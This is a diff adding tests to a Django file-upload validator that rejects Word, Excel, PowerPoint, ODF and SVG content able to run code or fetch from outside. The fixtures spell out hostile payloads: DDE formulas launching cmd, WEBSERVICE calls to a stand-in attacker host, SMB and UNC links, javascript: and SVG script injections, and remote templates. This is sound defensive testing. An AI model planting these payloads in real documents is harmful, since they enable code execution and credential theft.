@@ -6,8 +6,9 @@ import pytest
 from django.core.exceptions import ValidationError
 
 from kominfo.lib.files import packages
-from tests.kominfo.lib.files.office import WORD, office, package, relations, word
+from tests.kominfo.lib.files.office import TYPES, WORD, office, package, relations, word
 
+SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
 EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 ODT = "application/vnd.oasis.opendocument.text"
 SPACES = (
@@ -106,6 +107,165 @@ def test_the_main_part_is_the_one_that_the_package_names():
 def test_what_is_more_than_a_document_is_refused_with_a_remedy(content, sentence):
     with pytest.raises(ValidationError, match=sentence):
         kind(content)
+
+
+def test_parts_are_told_by_the_lists_and_not_by_their_names_or_the_size_of_letters():
+    outside = relations(("attachedTemplate", "https://jahat.example/x.dotm", True))
+    types = f"""<Types xmlns="{TYPES}"><Default Extension="DAT" ContentType="application/xml"/>
+        <Override PartName="/Word/Document.XML" ContentType="{WORD}.main+xml"/>
+        <Override PartName="/word/lain.bin" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
+        <Override PartName="/word/tautan%20data.bin" ContentType="application/vnd.x.externalLink+xml"/></Types>"""
+
+    def named(**more):
+        return kind(office(WORD, "word/document.xml", **{"[Content_Types].xml": types} | more))
+
+    assert named() == "DOCX"
+    for more in (
+        {"word/_rels/settings.xml.RELS": outside},
+        {"WORD/_RELS/Settings.xml.rels": outside},
+        {"word/%5Frels/settings.xml.%72els": outside},
+        {"word/lain.bin": outside},
+        {"word/tautan data.bin": "<x/>"},
+        {"word/isi.dat": "<x><ddeLink/></x>"},
+        {"word/gambar.png": "<x><ddeLink/></x>"},
+        {"WORD/%76baProject.BIN": "x"},
+        {"word/footer1.xml": '<x xmlns:w="w"><w:instrText> DDE x</w:instrText></x>'},
+        {"elsewhere/footer1.xml": '<x xmlns:w="w"><w:instrText> DDE x</w:instrText></x>'},
+    ):
+        with pytest.raises(ValidationError, match=r"dari luar|makro"):
+            named(**more)
+
+
+def test_a_part_that_is_there_twice_or_in_pieces_is_refused():
+    for name in ("WORD/document.xml", "word/%64ocument.xml", "word/document.xml/[0].piece"):
+        with pytest.raises(ValidationError, match="rusak"):
+            kind(word(**{name: "<x/>"}))
+
+
+def test_a_list_of_office_does_not_hide_what_is_in_an_open_document():
+    with pytest.raises(ValidationError, match="memuat makro"):
+        kind(odt("<script:event-listener/>", **{"[Content_Types].xml": "<Types/>"}))
+
+
+SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:l='http://www.w3.org/1999/xlink'>{}</svg>"
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        "<script>alert(1)</script>",
+        "<g onload='alert(1)'/>",
+        "<foreignObject><iframe src='x'/></foreignObject>",
+        "<a l:href='javascript:alert(1)'><path/></a>",
+        "<set attributeName='href' to='javascript:alert(1)'/>",
+        "<image href='https://jahat.example/x.png'/>",
+        "<use href='data:text/html,x'/>",
+        "<style>@import url(https://jahat.example/x.css)</style>",
+        "<rect style='fill:url(//jahat.example/x)'/>",
+    ],
+)
+def test_a_picture_that_runs_or_fetches_is_refused(inside):
+    for name in ("word/media/gambar.svg", "word/media/gambar.png"):
+        with pytest.raises(ValidationError, match=r"memuat skrip|dari luar|menjalankan program"):
+            kind(word(**{name: SVG.format(inside)}))
+    with pytest.raises(ValidationError):
+        kind(odt(**{"Pictures/a.svg": SVG.format(inside)}))
+
+
+def test_a_drawn_picture_stays():
+    drawn = SVG.format(
+        "<style>.a{fill:url(#warna)}</style><defs/><image href='data:image/png;base64,AA=='/><use l:href='#a'/>"
+        "<a href='https://malutprov.go.id'><text>Situs</text></a><foreignObject><div>Bagan</div></foreignObject>"
+    )
+
+    assert kind(word(**{"word/media/gambar.svg": drawn})) == "DOCX"
+    assert kind(odt(**{"Pictures/a.svg": drawn})) == "ODT"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '_xlfn.WEBSERVICE("https://jahat.example")', '_xlfn.IMAGE("https://jahat.example/x.png")', "_xlfn.FILTERXML(A1,A2)",
+        "cmd|'/c calc'!A1", "'cmd'|'/c calc'!A1", "RTD(&quot;x&quot;,,1)", 'HYPERLINK("smb://10.0.0.1/x","klik")',
+        'HYPERLINK("javascript:alert(1)")', 'HYPERLINK( "\\\\10.0.0.1\\x" )', "1+CALL(A1)", "'file:///c:/x.xls'#$A.A1",
+        "'\\\\10.0.0.1\\[x.xlsx]A'!A1", "webservice (A1)",
+    ],
+)  # fmt: skip
+def test_a_formula_that_does_more_than_reckon_is_refused_wherever_it_stands(formula):
+    for element in ("f", "definedName", "formula1", "calculatedColumnFormula"):
+        with pytest.raises(ValidationError, match=r"memuat rumus|tautan ke"):
+            kind(sheet(**{"xl/worksheets/sheet1.xml": f"<x><{element}>{formula}</{element}></x>"}))
+    if "|" not in formula:  # which parts the rows of a list there
+        open_sheet = f"<t:c xmlns:t='t' t:formula='of:={formula.replace(chr(39), '&apos;')}'/>"
+        with pytest.raises(ValidationError, match=r"memuat rumus|tautan ke"):
+            kind(odt(open_sheet))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(A1:B9)", "'Data|Lama'!A1", 'A1&amp;" | "&amp;B1', 'HYPERLINK("https://malutprov.go.id","Situs: resmi")',
+        "HYPERLINK(A1)", 'HYPERLINK("#Lembar2!A1","Rincian")', "_xlfn.XLOOKUP(A1,B:B,C:C)", "'Jan:Mar'!A1", "{1,2;3,4}",
+        '"WEBSERVICE(A1)"', "CALLS+IMAGES",
+    ],
+)  # fmt: skip
+def test_a_formula_that_reckons_stays(formula):
+    assert kind(sheet(**{"xl/worksheets/sheet1.xml": f"<x><c><f>{formula}</f><v>1</v></c></x>"})) == "XLSX"
+
+
+def test_rows_of_a_list_in_an_open_sheet_are_no_program():
+    assert kind(odt("<t:c xmlns:t='t' t:formula='of:=SUM({1;2|3;4})'/>")) == "ODT"
+
+
+@pytest.mark.parametrize(
+    ("content", "sentence"),
+    [
+        (word(("aFChunk", "afchunk.htm", False), **{"word/afchunk.htm": "<p>x</p>"}), "disematkan"),
+        (word(("AFCHUNK", "x.txt", False), **{"word/x.txt": "teks"}), "disematkan"),
+        (word(**{"word/x.mht": "MIME-Version: 1.0"}), "disematkan"),
+        (word(**{"word/x.bin": "\ufeff <!DOCTYPE  html><p>x"}), "disematkan"),
+        (word(**{"word/x.bin": "<HTML><p>x"}), "disematkan"),
+        (word(**{"word/x.xml": "<?xml version='1.0'?><html/>"}), "disematkan"),
+        (word(**{"word/x.bin": "{\\rtf1}"}), "disematkan"),
+        (word(("hyperlink", "java&#9;script:alert(1)", True)), "yang menjalankan program"),
+        (word(("hyperlink", "smb://10.0.0.1/x", True)), "yang menuju berkas"),
+        (word(("hyperlink", r"\\10.0.0.1\x", True)), "yang menuju berkas"),
+        (word(("hyperlink", "search-ms:query=x", True)), "yang menjalankan program"),
+        (
+            word(body='<x xmlns:w="w"><w:instrText> HYPERLINK "javascript:x"</w:instrText></x>'),
+            "menjalankan program",
+        ),
+        (word(body='<x xmlns:w="w"><w:instrText>QUOTE 68 68 69</w:instrText></x>'), "bidang QUOTE"),
+        (word(**{"docProps/app.xml": r"<x><HyperlinkBase>\\10.0.0.1\</HyperlinkBase></x>"}), "tautan ke"),
+        (word(body="<v xmlns:v='urn:schemas-microsoft-com:vml'><v:imagedata src='//h/x'/></v>"), "dari luar"),
+        (word(body="<x xmlns='urn:schemas-microsoft-com:vml' href='file://h/x'/>"), "tautan ke"),
+        (
+            office(SLIDES, "ppt/p.xml", **{"ppt/s1.xml": "<x action='ppaction://program'/>"}),
+            "tombol atau gambar",
+        ),
+        (
+            sheet(**{"xl/w.xml": "<x><definedName name='_xlnm.Auto_Open'>A!A1</definedName></x>"}),
+            "memuat makro",
+        ),
+        (sheet(**{"xl/x.xml": "<x><ddeLink ddeService='cmd'/></x>"}), "dari luar"),
+        (
+            word(**{"customXml/item1.xml": "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'/>"}),
+            "dari luar",
+        ),
+        (word(("mailMergeSource", "x.csv", False)), "dari luar"),
+        (word(("webextensiontaskpanes", "x.xml", False)), "memuat makro"),
+        (odt("<text:script>x</text:script>"), "memuat makro"),
+    ],
+)
+def test_what_hides_in_other_parts_is_refused_too(content, sentence):
+    with pytest.raises(ValidationError, match=sentence):
+        kind(content)
+
+
+def test_fields_with_the_word_link_in_an_address_or_a_hint_stay():
+    field = r'HYPERLINK "https://bit.ly/link-zoom" \o "Buka link ini" '
+
+    assert kind(word(body=f"<x xmlns:w='w'><w:instrText>{field}</w:instrText><w:fldChar/></x>")) == "DOCX"
 
 
 def test_an_open_document_with_pictures_links_and_a_template_on_its_writers_disk_passes():
